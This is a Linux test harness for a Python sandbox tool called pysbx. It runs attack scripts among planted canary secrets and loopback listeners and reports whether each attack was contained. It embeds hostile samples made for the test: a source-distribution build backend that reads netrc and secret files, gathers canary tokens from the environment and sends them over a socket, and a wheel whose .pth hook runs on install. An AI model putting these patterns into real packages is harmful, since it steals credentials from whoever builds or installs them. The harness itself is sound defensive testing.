"""Attack the sandbox with every script in tests/attacks and say for each whether it held.

    python tests/attack_suite.py --backend native --network off
    python tests/attack_suite.py --backend none                    the control: many escape

Each attack is run once by `pysbx.py`, as a user would run it, among canaries that are made here
for the purpose: secrets in files, variables, processes, memory and descriptors, and listeners on
loopback. It has held if the script says so AND nothing is seen from outside: no canary was
contacted, none of the secret came out, no process or file is left, the run ended in time and the
host's memory is still there. A script that dies before it could try proves nothing and counts as
an escape. Standard library only, Linux, Python 3.11 or newer; root or an ordinary user.

An attack begins with comments: `class`, `tries`, `network` (on, off, any), and where it needs them
`bomb: yes` (only in a pid namespace of its own, never with --backend none), `exit` (a number,
`timeout` or `refused`), `timeout` (seconds), `with` (options of pysbx), `needs` (see NEEDS).
It prints one line that starts with HELD:, ESCAPED:, or ATTEMPTED: where only the outside can tell.
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import fcntl
import hashlib
import http.server
import io
import os
import platform
import re
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tarfile
import tempfile
import termios
import threading
import time
import tty
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from subprocess import DEVNULL, PIPE

HERE = Path(__file__).resolve().parent
PYSBX = HERE.parent / "pysbx.py"
NEEDS = (
    "descriptor",  # an inherited descriptor of a secret file
    "dial",  # somebody outside who keeps calling @LPORT@
    "index",  # a package index, with a source distribution that steals and a wheel with a .pth
    "proxy",  # a proxy with a password in the environment
    "server-kill",  # the server is killed while the script runs
    "sibling",  # another run of pysbx at the same time
    "terminal",  # a controlling terminal
    "twice",  # the same script is run a second time
)
CLASSES = (
    "fs-read fs-write process privilege kernel terminal resource network output metadata artifact"
).split()
MARK = "PYSBX_ATTACK_MARK"  # the variable by which every process of a run is found
START = 25.0  # seconds a run may take beyond its own limit: a busy machine, a cold container
INSTALL = 60.0  # seconds more where packages are resolved
AFTER = 1.5  # seconds in which every process of a run must be gone
HOST_LOSS = 4 << 30  # bytes of free memory the host may lose before a run is killed
KEEP = 1 << 20  # bytes kept of each stream
FLOOD = 8 << 20  # more than this coming out is output without a bound
SERVER = 400 << 20  # the server's own memory when the output is hostile
MAX_FILES, MAX_BYTES = 1000, 100 << 20  # what --files-out may deliver
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p


@dataclass(frozen=True)
class Attack:
    """One script of tests/attacks and what its header says."""

    path: Path
    kind: str
    tries: str
    network: str
    bomb: bool = False
    exit: str = ""
    timeout: float = 0.0  # 0: what the command line says
    options: tuple[str, ...] = ()
    needs: tuple[str, ...] = ()

    @property
    def name(self) -> str:
        return self.path.stem


def read_attack(path: Path) -> Attack:
    """Read the header: the comments up to the first other line."""
    header: dict[str, str] = {}
    for line in path.read_text().splitlines():
        if not (found := re.fullmatch(r"# ([a-z]+): (.+)", line)):
            break
        header[found[1]] = found[2]
    known = {"class", "tries", "network", "bomb", "exit", "timeout", "with", "needs"}
    needs = tuple(header.get("needs", "").split())
    if header.keys() - known or header["class"] not in CLASSES or set(needs) - set(NEEDS):
        raise ValueError(f"{path.name}: its header is not right")
    if header["network"] not in ("on", "off", "any"):
        raise ValueError(f"{path.name}: network is on, off or any")
    return Attack(
        path,
        header["class"],
        header["tries"],
        header["network"],
        header.get("bomb") == "yes",
        header.get("exit", ""),
        float(header.get("timeout", 0)),
        tuple(header.get("with", "").split()),
        needs,
    )


def attacks() -> list[Attack]:
    """Return all attacks, ordered by class and name."""
    found = [read_attack(path) for path in sorted((HERE / "attacks").glob("*.py"))]
    return sorted(found, key=lambda a: (CLASSES.index(a.kind), a.name))


def left_out(attack: Attack, backend: str, network: str) -> str:
    """Say why an attack does not apply to a backend and a network policy, or ""."""
    if attack.network not in ("any", network):
        return f"it is about network {attack.network}"
    if backend == "none" and attack.bomb:
        return "bombs need a sandbox around them"
    if backend == "docker" and "index" in attack.needs:
        return "a container cannot reach an index on this host's loopback"
    return ""


# ---- canaries: what there is to steal, all of it made here


@dataclass
class Canaries:
    """Secrets and listeners; use it as a context, everything goes away at the end."""

    base: Path = field(default_factory=lambda: Path(tempfile.mkdtemp(prefix="pysbx-attacks-")))
    secret: str = field(default_factory=lambda: "CANARY-" + secrets.token_hex(8))
    name: str = field(default_factory=lambda: "pysbx-canary-" + secrets.token_hex(4))
    contacts: list[str] = field(default_factory=list)
    port: int = 0
    index: str = ""
    shm_key: int = 0

    def __enter__(self) -> Canaries:
        self.stack = contextlib.ExitStack()
        self.stack.callback(remove, self.base)
        try:
            self.base.chmod(0o755)
            self._files()
            self._listeners()
            self._index()
            self._shared_memory()
            self._key()
            self._bystander()
        except BaseException:
            self.stack.close()
            raise
        return self

    def __exit__(self, *_: object) -> None:
        self.stack.close()

    def _files(self) -> None:
        self.dir = self.base / "host"
        (self.base / "cache").mkdir()
        for path in ("writable", "home/.ssh", "home/.config/autostart", "home/.config/uv"):
            (self.dir / path).mkdir(parents=True)
            (self.dir / path).chmod(0o777)
        for path in ("secret.txt", "home/.ssh/id_canary", "netrc"):
            (self.dir / path).write_text(f"machine canary login x password {self.secret}\n")
        (self.dir / "package").mkdir()
        for path, text in self._source().items():
            (self.dir / "package" / path).write_text(text)
        for directory in {tempfile.gettempdir(), "/var/tmp", "/dev/shm"}:
            with contextlib.suppress(OSError):
                shared = Path(directory, self.name)
                shared.write_text(self.secret)
                self.stack.callback(shared.unlink, missing_ok=True)

    def _listeners(self) -> None:
        def answer(listener: socket.socket, what: str) -> None:
            with contextlib.suppress(OSError):
                while True:
                    peer, _ = listener.accept()
                    with peer, contextlib.suppress(OSError):
                        self.contacts.append(what)
                        peer.settimeout(0.5)
                        peer.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + self.secret.encode())
                        self.contacts[-1] = f"{what} {peer.recv(200)!r}"

        def listen(family: int, address: object, what: str) -> socket.socket:
            listener = self.stack.enter_context(socket.socket(family))
            listener.bind(address)
            listener.listen(64)
            threading.Thread(target=answer, args=(listener, what), daemon=True).start()
            return listener

        self.port = listen(socket.AF_INET, ("127.0.0.1", 0), "tcp").getsockname()[1]
        with contextlib.suppress(OSError):
            listen(socket.AF_INET6, ("::1", self.port), "tcp6")
        listen(socket.AF_UNIX, "\0" + self.name, "abstract socket")
        listen(socket.AF_UNIX, str(self.dir / "canary.sock"), "unix socket")
        (self.dir / "canary.sock").chmod(0o777)
        datagrams = self.stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        datagrams.bind(("127.0.0.1", self.port))

        def collect() -> None:
            with contextlib.suppress(OSError):
                while True:
                    self.contacts.append(f"udp {datagrams.recv(200)!r}")

        threading.Thread(target=collect, daemon=True).start()

    def _source(self) -> dict[str, str]:
        """Return a source distribution whose build backend takes what it can reach."""
        backend = f"""import os, re, socket
def _steal(hook):
    seen = [hook]
    names = [os.environ.get("NETRC", ""), "/etc/netrc", os.path.expanduser("~/.netrc")]
    for name in [*names, "{self.dir}/secret.txt", "{self.dir}/netrc"]:
        try: seen += re.findall("CANARY-[0-9a-f]+", open(name).read())
        except OSError: pass
    seen += re.findall("CANARY-[0-9a-f]+", str(dict(os.environ)))
    try: open("{self.dir}/writable/built", "w").close()
    except OSError: pass
    if seen[1:] or hook == "outside":
        try: socket.create_connection(("127.0.0.1", {self.port}), 2).sendall(str(seen).encode())
        except OSError: pass
def get_requires_for_build_wheel(config_settings=None):
    _steal("requires")
    return []
def build_wheel(directory, config_settings=None, metadata_directory=None):
    import zipfile
    name = "pysbx_canary_source-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        for path, text in {wheel_files("pysbx_canary_source")!r}.items():
            wheel.writestr(path, text)
    return name
"""
        project = '[project]\nname = "pysbx-canary-source"\nversion = "1.0"\n[build-system]\n'
        project += 'requires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        info = "Metadata-Version: 2.1\nName: pysbx-canary-source\nVersion: 1.0\n"
        return {"backend.py": backend, "pyproject.toml": project, "PKG-INFO": info}

    def _index(self) -> None:
        import zipfile

        hook = f"import os; open({str(self.dir / 'writable/pth')!r}, 'w').close()"
        files = wheel_files("pysbx_canary_wheel") | {"canary.pth": hook + "\n"}
        wheel, source = io.BytesIO(), io.BytesIO()
        with zipfile.ZipFile(wheel, "w") as archive:
            for path, text in files.items():
                archive.writestr(path, text)
        with tarfile.open(fileobj=source, mode="w:gz") as tar:
            for path, text in self._source().items():
                info = tarfile.TarInfo(f"pysbx_canary_source-1.0/{path}")
                info.size = len(text)
                tar.addfile(info, io.BytesIO(text.encode()))
        served = {
            "pysbx_canary_wheel-1.0-py3-none-any.whl": wheel.getvalue(),
            "pysbx_canary_source-1.0.tar.gz": source.getvalue(),
        }

        class Index(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                name = self.path.rstrip("/").rpartition("/")[2]
                links = [
                    f'<a href="/{file}#sha256={hashlib.sha256(data).hexdigest()}">{file}</a>'
                    for file, data in served.items()
                    if file.startswith(name.replace("-", "_"))
                ]
                body = served.get(name) or "".join(links).encode()
                self.send_response(200 if body else 404)
                kind = "application/octet-stream" if name in served else "text/html"
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command == "GET":
                    self.wfile.write(body)

            do_HEAD = do_GET

            def log_message(self, *_: object) -> None:
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
        self.index = f"http://127.0.0.1:{server.server_address[1]}/simple"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.stack.callback(server.server_close)
        self.stack.callback(server.shutdown)

    def _shared_memory(self) -> None:
        self.shm_key = secrets.randbelow(1 << 30) + 1
        segment = LIBC.shmget(self.shm_key, 4096, 0o1666)
        if segment >= 0:
            text = self.secret.encode()
            ctypes.memmove(LIBC.shmat(segment, None, 0), text, len(text))
            self.stack.callback(LIBC.shmctl, segment, 0, None)

    def _key(self) -> None:
        """Put a key into the user's keyring: keyrings are in no namespace."""
        add_key, keyctl = (248, 250) if platform.machine() == "x86_64" else (217, 219)
        text = self.secret.encode()
        key = LIBC.syscall(add_key, b"user", self.name.encode(), text, len(text), -4)
        if key > 0:
            self.stack.callback(LIBC.syscall, keyctl, 9, key, -4)  # unlink

    def _bystander(self) -> None:
        """Start a process that has nothing to do with any run, and writes down its signals."""
        code = f"""import signal, time
secret = {self.secret!r}
def note(number, frame): open({str(self.dir / "writable/signalled")!r}, "w").close()
for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGHUP): signal.signal(number, note)
print("up", flush=True)
while True: time.sleep(60)
"""
        argv = [sys.executable, "-c", code, self.name]
        env = {"PATH": os.defpath, "BYSTANDER": self.secret}
        process = subprocess.Popen(
            argv, env=env, cwd=self.dir, stdin=DEVNULL, stdout=PIPE, start_new_session=True
        )
        self.stack.callback(process.wait)
        self.stack.callback(process.kill)
        assert process.stdout
        process.stdout.readline()


def wheel_files(name: str) -> dict[str, str]:
    """Return the content of the smallest wheel there is."""
    info = f"{name}-1.0.dist-info"
    return {
        f"{name}.py": "",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: canary\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
        f"{info}/RECORD": f"{name}.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n",
    }


def remove(path: Path) -> None:
    """Remove a tree of any depth and with any permissions."""
    for command in ("chmod -R u+rwx", "rm -rf"):
        subprocess.run([*command.split(), "--", path], stdout=DEVNULL, stderr=DEVNULL, check=False)


# ---- looking from outside


def free_memory() -> int:
    found = re.search(r"MemAvailable:\s+(\d+)", Path("/proc/meminfo").read_text())
    assert found
    return int(found[1]) << 10


def marked(mark: str) -> list[int]:
    """Return the living processes that have the mark in their environment, whoever they are."""
    found, wanted = [], f"{MARK}={mark}".encode()
    for entry in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if wanted in (entry / "environ").read_bytes().split(b"\0"):
                found.append(int(entry.name))
    return found


def end_marked(mark: str) -> None:
    """End what a run left: its processes, and the containers that they are in."""
    for pid in marked(mark):
        with contextlib.suppress(OSError):
            for container in set(
                re.findall(r"[0-9a-f]{64}", Path(f"/proc/{pid}/cgroup").read_text())
            ):
                subprocess.run(
                    ["docker", "kill", container], stdout=DEVNULL, stderr=DEVNULL, check=False
                )
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


class Run:
    """One run of pysbx: both streams with bounded memory, the time, the exit code."""

    def __init__(self, argv: list[str], place: Path, env: dict[str, str], limit: float) -> None:
        self.argv, self.place, self.env, self.limit = argv, place, env, limit
        self.kept, self.total = (bytearray(), bytearray()), [0, 0]
        self.stopped, self.seconds, self.memory, self.keystrokes = "", 0.0, 0, 0
        self.shown = b""  # what came out of the terminal

    def start(self, canaries: Canaries, needs: tuple[str, ...]) -> None:
        """Run to the end; kill it if it overstays or eats the host's memory."""
        with contextlib.ExitStack() as stack:
            reader, writer = os.pipe()  # stdin: a secret, and it stays open
            stack.callback(os.close, reader)
            stack.callback(os.close, writer)
            os.write(writer, f"{canaries.secret} on stdin\n".encode())
            stdin, keyboard, enter, fds = reader, -1, None, ()
            if "terminal" in needs:
                keyboard, stdin = os.openpty()
                stack.callback(os.close, keyboard)
                stack.callback(os.close, stdin)
                tty.setraw(stdin)

                def enter() -> None:
                    fcntl.ioctl(0, termios.TIOCSCTTY, 0)

            if "descriptor" in needs:
                fds = (os.open(canaries.dir / "secret.txt", os.O_RDONLY),)
                stack.callback(os.close, *fds)
            began = time.monotonic()
            self.process = subprocess.Popen(
                self.argv,
                stdin=stdin,
                stdout=PIPE,
                stderr=PIPE,
                env=self.env,
                cwd=self.place,
                pass_fds=fds,
                preexec_fn=enter,
                start_new_session=True,
            )
            readers = [threading.Thread(target=self._read, args=(i,), daemon=True) for i in (0, 1)]
            for thread in readers:
                thread.start()
            self._watch(began, "server-kill" in needs)
            self.seconds = time.monotonic() - began
            for thread in readers:
                thread.join(3)
            self.hung = any(thread.is_alive() for thread in readers)
            if keyboard >= 0:
                waiting = fcntl.ioctl(stdin, termios.FIONREAD, bytes(4))
                self.keystrokes = int.from_bytes(waiting, sys.byteorder)
                os.set_blocking(keyboard, False)
                with contextlib.suppress(OSError):
                    self.shown = os.read(keyboard, 65536)

    def _read(self, number: int) -> None:
        pipe = (self.process.stdout, self.process.stderr)[number]
        assert pipe
        while data := os.read(pipe.fileno(), 65536):
            self.total[number] += len(data)
            self.kept[number].extend(data[: KEEP - len(self.kept[number])])

    def _watch(self, began: float, kill_server: bool) -> None:
        before, seen, mark = free_memory(), 0.0, self.env[MARK]
        while self.process.poll() is None:
            time.sleep(0.02)
            now = time.monotonic()
            with contextlib.suppress(OSError, IndexError):
                status = Path(f"/proc/{self.process.pid}/status").read_text()
                peak = re.findall(r"VmHWM:\s+(\d+)", status)
                self.memory = max(self.memory, int(peak[0]) << 10)
            if kill_server and not seen and script_runs(mark):
                seen = now
            if seen and now > seen + 1:  # as an out-of-memory killer would: without a word
                self.process.kill()
            if (lost := before - free_memory()) > HOST_LOSS:
                self.stopped = f"the host lost {lost >> 20} MB of memory"
            if now - began > self.limit + 5:
                self.stopped = f"it still ran after {now - began:.0f} s"
            if self.stopped:
                end_marked(mark)
                self.process.kill()

    @property
    def code(self) -> int:
        return self.process.returncode

    @property
    def text(self) -> str:
        return "\n".join(bytes(part).decode("utf-8", "replace") for part in self.kept)

    @property
    def notes(self) -> list[str]:
        """What pysbx itself said, if the script did not imitate it."""
        text = bytes(self.kept[1]).decode("utf-8", "replace")
        return [line for line in text.splitlines() if line.startswith("pysbx: ")]


def script_runs(mark: str) -> bool:
    for pid in marked(mark):
        with contextlib.suppress(OSError):
            words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if len(words) > 1 and words[1].endswith(b"/script.py"):
                return True
    return False


# ---- one attack


@dataclass(frozen=True)
class Verdict:
    attack: Attack
    held: bool
    why: str  # what escaped, or what the script said


class Attempt:
    """One attack in one place: fills the script in, runs it, judges what is seen."""

    def __init__(
        self, attack: Attack, canaries: Canaries, backend: str, network: str, timeout: float
    ) -> None:
        self.attack, self.canaries, self.backend, self.network = attack, canaries, backend, network
        self.timeout = attack.timeout or timeout
        self.mark = "pysbxmark" + secrets.token_hex(6)
        self.box = canaries.base / self.mark
        self.files = self.box / "outer/files"  # for --files-out
        self.place = self.box / "caller"  # where the caller stands
        self.bad: list[str] = []
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.call_port = free.getsockname()[1]
        self.words = {
            "DIR": canaries.dir,
            "NAME": canaries.name,
            "PORT": canaries.port,
            "LPORT": self.call_port,
            "SHMKEY": canaries.shm_key,
            "MARK": self.mark,
            "PIDNS": os.readlink("/proc/self/ns/pid"),
        }

    def run(self) -> Verdict:
        self.files.mkdir(parents=True)
        self.place.mkdir()
        del self.canaries.contacts[:]
        try:
            with contextlib.ExitStack() as stack:
                script = self._fill()
                if "sibling" in self.attack.needs:
                    self._sibling(stack)
                if "dial" in self.attack.needs:
                    self._dial(stack)
                for _ in range(1 + ("twice" in self.attack.needs)):
                    run = Run(self._argv(script), self.place, self._env(), self._limit())
                    run.start(self.canaries, self.attack.needs)
            self._judge(run)
        finally:
            end_marked(self.mark)
            remove(self.box)
        said = re.findall(r"(?m)^((?:HELD|ATTEMPTED): .*)$", run.text)
        if self.bad:
            return Verdict(self.attack, False, "; ".join(self.bad)[:600])
        return Verdict(self.attack, True, said[-1] if said else (run.notes or [""])[-1][:200])

    def _fill(self) -> Path:
        text = self.attack.path.read_text()
        for word, value in self.words.items():
            text = text.replace(f"@{word}@", str(value))
        script = self.box / f"{self.attack.name}.py"
        script.write_text(text)
        return script

    def _argv(self, script: Path) -> list[str]:
        argv = [*command(self.backend, self.network), "--default-timeout", f"{self.timeout:.0f}"]
        argv += ["--pass-env", MARK, *self.attack.options]
        argv += ["--files-out", str(self.files)] if self.attack.kind == "artifact" else []
        return [*argv, str(script)]

    def _env(self) -> dict[str, str]:
        secret = self.canaries.secret
        env = {**os.environ, MARK: self.mark, "SERVER_SECRET": secret}
        env |= {"NETRC": str(self.canaries.dir / "netrc"), "PYTHONDONTWRITEBYTECODE": "1"}
        if "proxy" in self.attack.needs:
            env |= {"HTTPS_PROXY": f"http://user:{secret}@127.0.0.1:9"}
        if "index" in self.attack.needs:  # with a cache that goes away: nobody else may get these
            env |= {"UV_DEFAULT_INDEX": self.canaries.index}
            env |= {"XDG_CACHE_HOME": str(self.canaries.base / "cache")}
        return env

    def _limit(self) -> float:
        """Return the seconds that a run may take, from its start to its end."""
        installs = "index" in self.attack.needs or self.attack.exit == "refused"
        return START + self.timeout + INSTALL * installs

    def _sibling(self, stack: contextlib.ExitStack) -> None:
        script = self.box / "other.py"
        secret = self.canaries.secret
        script.write_text(
            f"import os, time\nsecret = {secret!r}\n"
            "for place in ('.', '/tmp', '/dev/shm'):\n"
            f"    open(f'{{place}}/{self.mark}-sibling', 'w').write(secret)\n"
            "print('up', flush=True)\ntime.sleep(60)\n"
        )
        argv = self._argv(script)
        argv[argv.index("--default-timeout") + 1] = "60"
        other = subprocess.Popen(
            argv, env=self._env(), cwd=self.place, stdin=DEVNULL, stdout=PIPE, stderr=DEVNULL
        )
        until = time.monotonic() + START
        while not script_runs(self.mark) and time.monotonic() < until and other.poll() is None:
            time.sleep(0.05)
        time.sleep(0.5)

        def end() -> None:
            other.terminate()
            with contextlib.suppress(subprocess.TimeoutExpired):
                other.wait(15)
            other.kill()
            for place in ("/tmp", "/dev/shm"):  # without a sandbox it wrote there
                Path(place, f"{self.mark}-sibling").unlink(missing_ok=True)

        stack.callback(end)

    def _dial(self, stack: contextlib.ExitStack) -> None:
        over = threading.Event()

        def dial() -> None:
            while not over.wait(0.1):
                with contextlib.suppress(OSError):
                    socket.create_connection(("127.0.0.1", self.call_port), 0.5).close()
                    self.bad.append("its port could be reached from the host")
                    return

        thread = threading.Thread(target=dial, daemon=True)
        thread.start()
        stack.callback(thread.join)
        stack.callback(over.set)

    # -- the verdict

    def _judge(self, run: Run) -> None:
        self._judge_end(run)
        self._judge_words(run)
        until = time.monotonic() + (5 if "server-kill" in self.attack.needs else AFTER)
        while (left := marked(self.mark)) and time.monotonic() < until:
            time.sleep(0.05)
        self._say(bool(left), f"{len(left)} processes outlive the run")
        time.sleep(0.2 if self.attack.kind in ("network", "metadata") else 0)
        if contacts := list(self.canaries.contacts):
            self.bad.append(f"contacted: {contacts[0]}".replace(self.canaries.secret, "SECRET"))
        self._judge_host()
        if self.attack.kind == "artifact":
            self._judge_files()

    def _say(self, wrong: bool, text: str) -> None:
        if wrong:
            self.bad.append(text)

    def _judge_end(self, run: Run) -> None:
        self._say(bool(run.stopped), run.stopped)
        self._say(run.hung, "somebody keeps the output open after the end")
        self._say(run.seconds > self._limit(), f"it took {run.seconds:.0f} s")
        self._say(sum(run.total) > FLOOD, f"{sum(run.total) >> 20} MB of output came out")
        self._say(run.memory > SERVER, f"the server itself grew to {run.memory >> 20} MB")
        self._say(run.keystrokes > 0, f"{run.keystrokes} keystrokes reached the terminal")
        self._say(self.mark.encode() in run.shown, "it wrote on the caller's terminal")
        expected = {"timeout": 124, "refused": 125}.get(self.attack.exit)
        expected = int(self.attack.exit) if self.attack.exit.isdigit() else expected
        refused = run.code == 125 and bool(run.notes) and self.attack.exit != "125"
        if "server-kill" in self.attack.needs or run.stopped:
            return
        if expected is not None and run.code != expected:
            last = (run.text.strip().splitlines() or [""])[-1][:200]
            self.bad.append(f"exit code {run.code} instead of {expected}: {last}")
        elif refused and self.attack.kind != "metadata":
            self.bad.append(f"nothing was run: {run.notes[-1][:200]}")

    def _judge_words(self, run: Run) -> None:
        text, attack = run.text, self.attack
        self.bad += [line[:300] for line in re.findall(r"(?m)^ESCAPED: (.*)$", text)][:1]
        self._say(self.canaries.secret in text, "a secret is in the output")
        said = re.search(r"(?m)^(HELD|ESCAPED|ATTEMPTED): ", text)
        refused = attack.kind == "metadata" and run.code == 125 and run.notes
        silent = "server-kill" in attack.needs or run.stopped
        if not (said or refused or silent):
            last = (text.strip().splitlines() or ["it printed nothing"])[-1][:200]
            self.bad.append(f"it proves nothing, exit code {run.code}: {last}")
        if refused:
            self._say("Traceback (most recent call last)" in text, "a traceback, not a message")
        for path in (self.box, self.canaries.base):
            if attack.kind == "output" and str(path) in text:
                self.bad.append(f"a path of the host is in the output: {path}")
                break

    def _judge_host(self) -> None:
        """Look for files: in the canaries, in the caller's directory, and where all may write."""
        made = list((self.canaries.dir / "writable").iterdir()) + list(self.place.iterdir())
        places = [tempfile.gettempdir(), "/var/tmp", "/dev/shm", "/run", "/", os.getcwd()]
        places += [os.path.expanduser("~"), str(self.canaries.dir / "home/.config/autostart")]
        for place in places:
            made += Path(place).glob(f"*{self.mark}*")
        for path in made:
            remove(path)
        names = sorted({str(path).replace(str(self.canaries.base), "") for path in made})
        self._say(bool(made), f"created on the host: {', '.join(names[:3])}")

    def _judge_files(self) -> None:
        """Look at what --files-out delivered: the caller will open it."""
        beside = [p.name for p in self.files.parent.iterdir() if p != self.files]
        self._say(bool(beside), f"written beside the given directory: {beside[:2]}")
        number = size = 0
        for directory, directories, names in os.walk(self.files):
            for name in directories + names:
                path = os.path.join(directory, name)
                state = os.lstat(path)
                number, size = number + 1, size + state.st_size
                odd = not (stat.S_ISREG(state.st_mode) or stat.S_ISDIR(state.st_mode))
                self._say(odd, f"{name!r} is no regular file")
                self._say(bool(state.st_mode & 0o7000), f"{name!r} has a set-id bit")
                self._say(bool(state.st_mode & 0o111) and name in names, f"{name!r} can be run")
                self._say(not name.isprintable(), f"unsafe name {name!r}")
                self._say(bool(os.listxattr(path, follow_symlinks=False)), f"{name!r} has xattrs")
                if stat.S_ISREG(state.st_mode):
                    with open(path, "rb") as file:
                        data = file.read(1 << 20)
                    self._say(self.canaries.secret.encode() in data, f"a secret is in {name!r}")
        many = number > MAX_FILES or size > MAX_BYTES
        self._say(many, f"{number} files with {size >> 20} MB were delivered")
        del self.bad[6:]


def command(backend: str, network: str) -> list[str]:
    """Return how pysbx is started; without a sandbox it cannot be asked to require one."""
    network = "on" if backend == "none" else network  # it cannot close it
    argv = [sys.executable, str(PYSBX), "--sandbox-backend", backend, "--network", network]
    return argv + ["--require-sandbox"] * (backend != "none")


def works(backend: str, network: str = "off") -> str:
    """Run a harmless script; return why that fails, or ""."""
    with tempfile.TemporaryDirectory() as place:
        script = Path(place, "harmless.py")
        script.write_text("print(6 * 7)\nraise SystemExit(5)\n")
        argv = [*command(backend, network), str(script)]
        done = subprocess.run(argv, capture_output=True, timeout=300)
        if done.returncode == 5 and done.stdout == b"42\n":
            return ""
        return f"exit code {done.returncode}: {done.stderr.decode(errors='replace')[-400:]}"


def table(verdicts: list[Verdict]) -> str:
    """Return the results as a table, a row a class."""
    count: dict[str, list[bool]] = defaultdict(list)
    for verdict in verdicts:
        count[verdict.attack.kind].append(verdict.held)
    rows = [f"| {kind} | {sum(held)}/{len(held)} |" for kind, held in count.items()]
    return "\n".join(["| class | held |", "|---|---|", *rows])


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--backend", choices=("native", "docker", "none"), default="native")
    parser.add_argument("--network", choices=("off", "on"), default="off")
    parser.add_argument("--only", action="append", default=[], help="a name, class or part of it")
    parser.add_argument("--timeout", type=float, default=30.0, help="seconds a script has")
    parser.add_argument("--markdown", action="store_true", help="end with a table of the classes")
    args = parser.parse_args()
    chosen = [
        attack
        for attack in attacks()
        if not left_out(attack, args.backend, args.network)
        and (not args.only or any(w in attack.name or w == attack.kind for w in args.only))
    ]
    if problem := works(args.backend, args.network):
        print(f"a harmless script does not run: {problem}", file=sys.stderr)
        return 2
    verdicts = []
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    with Canaries() as canaries:
        for attack in chosen:
            attempt = Attempt(attack, canaries, args.backend, args.network, args.timeout)
            verdicts.append(attempt.run())
            word = "held   " if verdicts[-1].held else "ESCAPED"
            print(f"{word} {attack.kind:9} {attack.name}: {verdicts[-1].why}", flush=True)
    if args.markdown:
        print(table(verdicts))
    escaped = sum(not verdict.held for verdict in verdicts)
    print(f"{len(verdicts)} attacks: {len(verdicts) - escaped} held, {escaped} escaped")
    return 1 if escaped else 0


if __name__ == "__main__":
    if shutil.which("rm") and sys.platform == "linux":
        sys.exit(main())
    sys.exit("the attacks are for Linux")
